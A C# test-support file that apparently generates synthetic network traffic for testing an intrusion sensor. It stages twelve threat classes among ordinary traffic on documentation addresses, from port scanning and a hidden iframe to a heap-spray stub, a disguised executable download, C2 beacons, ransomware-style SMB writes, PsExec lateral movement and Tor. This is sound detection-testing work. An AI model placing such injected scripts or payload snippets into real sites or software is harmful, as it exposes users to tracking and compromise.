using System.Text;

namespace Sensor.Tests.Support.Traffic;

/// <summary>
/// The project's own sample: a quarter of an hour of a small office in which each of the twelve threat classes happens
/// once, among ordinary traffic. Names and addresses are those set aside for documentation (RFC 5737, RFC 2606).
/// </summary>
public static class SampleTraffic
{
    /// <summary>Stands in bodies that must never leave the box; tests look for it in everything that does.</summary>
    public const string Marker = "MARKER-b7e1-must-never-leave";

    private static readonly Host Router = new("192.168.10.1", 0x02_00_00_00_00_01);
    private static readonly Host FileServer = new("192.168.10.5", 0x02_00_00_00_00_05);
    private static readonly Host Accounting = new("192.168.10.21", 0x02_00_00_00_00_21);
    private static readonly Host Sales = new("192.168.10.22", 0x02_00_00_00_00_22);
    private static readonly Host Office = new("192.168.10.23", 0x02_00_00_00_00_23);

    /// <summary>The class slugs in the order in which they happen, each with how it is made.</summary>
    public static IReadOnlyList<(string ThreatClass, Action<TrafficBuilder> Happen)> Classes { get; } =
    [
        ("reconnaissance", Reconnaissance),
        ("redirect-site", RedirectSite),
        ("tampered-site", TamperedSite),
        ("malicious-advertising", MaliciousAdvertising),
        ("browser-profiling-site", BrowserProfiling),
        ("browser-exploit-site", BrowserExploit),
        ("exploit-kit-download", ExploitKitDownload),
        ("malware-download", MalwareDownload),
        ("c2", CommandAndControl),
        ("ransomware", Ransomware),
        ("lateral-spread", LateralSpread),
        ("tor", Tor),
    ];

    public static TrafficBuilder Build()
    {
        var traffic = new TrafficBuilder();
        foreach ((_, Action<TrafficBuilder> happen) in Classes)
        {
            Ordinary(traffic);
            happen(traffic);
            traffic.Wait(30_000);
        }

        Ordinary(traffic);
        return traffic;
    }

    /// <summary>Name look-ups, pages, an update check, a ping: nothing here may alert.</summary>
    public static void Ordinary(TrafficBuilder traffic)
    {
        Host site = Internet("203.0.113.80");
        Resolve(traffic, Accounting, "www.example.com", site.Address);
        Get(traffic, Accounting, site, "www.example.com", "/news/index.html", Page("200 OK", "text/html; charset=utf-8", $"<html><body><h1>News</h1><p>{Marker}</p></body></html>"));
        Resolve(traffic, Sales, "mail.example.net", "203.0.113.25");
        TcpConversation secure = traffic.Connect(Sales, Internet("203.0.113.25"), 443)
            .ClientSends(TlsHandshake.ClientHello("mail.example.net", 0x1301, 0x1302, 0xC02B, 0xC02F, 0xC030))
            .ServerSends(TlsHandshake.ServerFlight("mail.example.net", "Example Public CA"))
            .ClientSends(TlsHandshake.ClientFinish());
        secure.ServerSends(TlsHandshake.ApplicationData(900)).ClientSends(TlsHandshake.ApplicationData(300)).Close();
        traffic.Send(FrameBuilder.IcmpEcho(Office, Router, 8, 77, 1, "abcdefghijklmnopqrstuvwabcdefghi"u8));
        traffic.Send(FrameBuilder.IcmpEcho(Router, Office, 0, 77, 1, "abcdefghijklmnopqrstuvwabcdefghi"u8));
        traffic.Wait(2_000);
    }

    private static void Reconnaissance(TrafficBuilder traffic)
    {
        Host scanner = Internet("198.51.100.7");
        ushort from = traffic.NextPort();
        ushort[] ports = [21, 22, 23, 25, 53, 110, 111, 135, 139, 143, 389, 445, 512, 513, 514, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 27017];
        foreach (ushort port in ports)
        {
            traffic.Send(FrameBuilder.Tcp(scanner, from, FileServer, port, 4_000_000, 0, FrameBuilder.Syn, window: 1024, timeToLive: 47));
            traffic.Send(FrameBuilder.Tcp(FileServer, port, scanner, from, 0, 4_000_001, FrameBuilder.Rst | FrameBuilder.Ack, window: 0));
            traffic.Wait(40);
        }
    }

    private static void RedirectSite(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.20");
        Resolve(traffic, Accounting, "track.redirect-demo.example", site.Address);
        Get(traffic, Accounting, site, "track.redirect-demo.example", "/in.cgi?7&seoref=news&parameter=keyword",
            "HTTP/1.1 302 Found\r\nServer: nginx\r\nSet-Cookie: SL_7_0000=_1_; path=/\r\nLocation: http://landing.kit-demo.example/?id=81\r\nContent-Length: 0\r\n\r\n");
    }

    private static void TamperedSite(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.21");
        Resolve(traffic, Sales, "shop.tampered-demo.example", site.Address);
        Get(traffic, Sales, site, "shop.tampered-demo.example", "/", Page("200 OK", "text/html",
            "<html><body><h1>Shop</h1><iframe src=\"http://landing.kit-demo.example/?id=81\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe></body></html>"));
    }

    private static void MaliciousAdvertising(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.22");
        Resolve(traffic, Office, "ads.malvertising-demo.example", site.Address);
        Get(traffic, Office, site, "ads.malvertising-demo.example", "/banner/728x90/serve.js?zone=3", Page("200 OK", "application/javascript", "document.write('<a href=\"http://landing.kit-demo.example/?id=82\">Win</a>');"));
    }

    private static void BrowserProfiling(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.23");
        Resolve(traffic, Accounting, "landing.profile-demo.example", site.Address);
        Get(traffic, Accounting, site, "landing.profile-demo.example", "/stat/collect.html", Page("200 OK", "text/html",
            "<html><script>var p=[];for(var i=0;i<navigator.plugins.length;i++){p.push(navigator.plugins[i].name+':'+navigator.plugins[i].version);}" +
            "var j=new ActiveXObject('JavaWebStart.isInstalled');var x=new XMLHttpRequest();x.open('POST','/stat/gate.php',true);x.send(p.join('|')+screen.width);</script></html>"));
    }

    private static void BrowserExploit(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.24");
        Resolve(traffic, Accounting, "landing.kit-demo.example", site.Address);
        Get(traffic, Accounting, site, "landing.kit-demo.example", "/?id=81", Page("200 OK", "text/html",
            "<html><script>var spray=unescape('%u9090%u9090%u9090%u9090');while(spray.length<0x40000)spray+=spray;var heap=new Array();for(i=0;i<200;i++)heap[i]=spray+'';</script></html>"));
    }

    private static void ExploitKitDownload(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.24");
        byte[] archive = [.. "PK\x03\x04\x14\0\x08\0\x08\0"u8, .. Filler(400), .. "META-INF/MANIFEST.MF"u8, .. Filler(200)];
        Get(traffic, Accounting, site, "landing.kit-demo.example", "/load/a81.jar", Page("200 OK", "application/java-archive", archive), "Mozilla/4.0 (Windows 10 10.0) Java/1.7.0_07");
    }

    private static void MalwareDownload(TrafficBuilder traffic)
    {
        Host site = Internet("198.51.100.25");
        Resolve(traffic, Accounting, "cdn.malware-demo.example", site.Address);
        byte[] program = [.. "MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0"u8, .. Filler(64), .. "!This program cannot be run in DOS mode.\r\r\n$"u8, .. Filler(3000)];
        Get(traffic, Accounting, site, "cdn.malware-demo.example", "/img/logo.png", Page("200 OK", "image/png", program));
    }

    private static void CommandAndControl(TrafficBuilder traffic)
    {
        Host server = Internet("198.51.100.66");
        Resolve(traffic, Accounting, "sync.c2-demo.example", server.Address);
        for (int i = 0; i < 3; i++)
        {
            traffic.Connect(Accounting, server, 443)
                .ClientSends(TlsHandshake.ClientHello("sync.c2-demo.example", 0xC014, 0xC013, 0x0035, 0x002F, 0x000A))
                .ServerSends(TlsHandshake.ServerFlight("localhost", "localhost", 0x0035))
                .ClientSends(TlsHandshake.ClientFinish())
                .ServerSends(TlsHandshake.ApplicationData(120)).Close();
            traffic.Wait(20_000);
        }
    }

    private static void Ransomware(TrafficBuilder traffic)
    {
        // SMB2 CREATE requests for ransom notes on the file server's share, as an encrypting program leaves them.
        TcpConversation share = traffic.Connect(Accounting, FileServer, 445);
        for (byte i = 0; i < 3; i++)
        {
            byte[] name = Encoding.Unicode.GetBytes($"Accounts\\2026\\{i}\\HOW_TO_DECRYPT_FILES.txt");
            byte[] header = [0xFE, .. "SMB"u8, 64, 0, 1, 0, 0, 0, 0, 0, 5, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, (byte)(i + 4), .. new byte[39]];
            byte[] create = [57, 0, 0, 2, 2, 0, 0, 0, .. new byte[16], 0x96, 0x01, 0x12, 0, 0x80, 0, 0, 0, 3, 0, 0, 0, 5, 0, 0, 0, 0x40, 0, 0, 0, 120, 0, (byte)name.Length, 0, .. new byte[8]];
            byte[] message = [.. header, .. create, .. name];
            share.ClientSends([0, 0, 0, (byte)message.Length, .. message]);
        }

        share.Close();
    }

    private static void LateralSpread(TrafficBuilder traffic)
    {
        // A remote-execution service written to the administrative share, then its pipe: how worms move between PCs.
        TcpConversation share = traffic.Connect(Accounting, Sales, 445);
        byte[] name = Encoding.Unicode.GetBytes("PSEXESVC.exe");
        byte[] message = [0xFE, .. "SMB"u8, 64, 0, 1, 0, 0, 0, 0, 0, 5, 0, 1, 0, .. new byte[48], 57, 0, 0, 2, .. new byte[40], 120, 0, (byte)name.Length, 0, .. new byte[8], .. name];
        share.ClientSends([0, 0, 0, (byte)message.Length, .. message]).Close();
    }

    private static void Tor(TrafficBuilder traffic)
    {
        Host resolver = Internet("203.0.113.53");
        ushort port = traffic.NextPort();
        const string name = "p53lf57qovyuvwsc6xnrppyply3vtqm7l6pcobkmyqsiofyeznfu5uqd.onion";
        traffic.Datagram(Office, port, resolver, 53, DnsMessage.Query(0x4242, name));
        traffic.Datagram(resolver, 53, Office, port, DnsMessage.Answer(0x4242, name, null));
        traffic.Connect(Office, Internet("198.51.100.90"), 9001)
            .ClientSends(TlsHandshake.ClientHello("www.k3xq7rml2tza.com", 0x1302, 0x1303, 0x1301, 0xC02B, 0xC02F))
            .ServerSends(TlsHandshake.ServerFlight("www.v6dhq2nbs3.net", "www.jx4tqkzgp.com"))
            .ClientSends(TlsHandshake.ClientFinish()).ServerSends(TlsHandshake.ApplicationData(514)).Close();
    }

    private static Host Internet(string address) => new(address, Router.Ethernet);

    private static void Resolve(TrafficBuilder traffic, Host client, string name, string address)
    {
        Host resolver = Internet("203.0.113.53");
        ushort port = traffic.NextPort();
        ushort id = (ushort)(port * 31);
        traffic.Datagram(client, port, resolver, 53, DnsMessage.Query(id, name));
        traffic.Datagram(resolver, 53, client, port, DnsMessage.Answer(id, name, address));
    }

    private static void Get(TrafficBuilder traffic, Host client, Host server, string host, string path, byte[] response, string userAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    {
        string request = $"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {userAgent}\r\nAccept: */*\r\nConnection: close\r\n\r\n";
        traffic.Connect(client, server, 80).ClientSends(Encoding.ASCII.GetBytes(request)).ServerSends(response).Close();
    }

    private static void Get(TrafficBuilder traffic, Host client, Host server, string host, string path, string response) =>
        Get(traffic, client, server, host, path, Encoding.ASCII.GetBytes(response));

    private static byte[] Page(string status, string type, string body) => Page(status, type, Encoding.UTF8.GetBytes(body));

    private static byte[] Page(string status, string type, byte[] body) =>
        [.. Encoding.ASCII.GetBytes($"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {type}\r\nContent-Length: {body.Length}\r\nConnection: close\r\n\r\n"), .. body];

    private static byte[] Filler(int length) => [.. Enumerable.Range(0, length).Select(i => (byte)((i * 167) + 13))];
}
